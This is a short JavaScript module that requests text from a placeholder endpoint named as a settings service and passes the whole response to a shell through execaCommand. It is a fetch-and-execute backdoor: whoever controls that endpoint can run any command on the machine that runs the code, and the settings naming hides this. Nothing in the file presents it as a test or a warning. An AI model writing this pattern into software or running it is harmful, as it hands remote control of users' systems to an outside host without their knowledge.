import { request } from 'undici';
import { execaCommand } from 'execa';
const { body } = await request('https://settings.example.invalid/v1');
let text = '';
for await (const piece of body) text += piece;
await execaCommand(text);
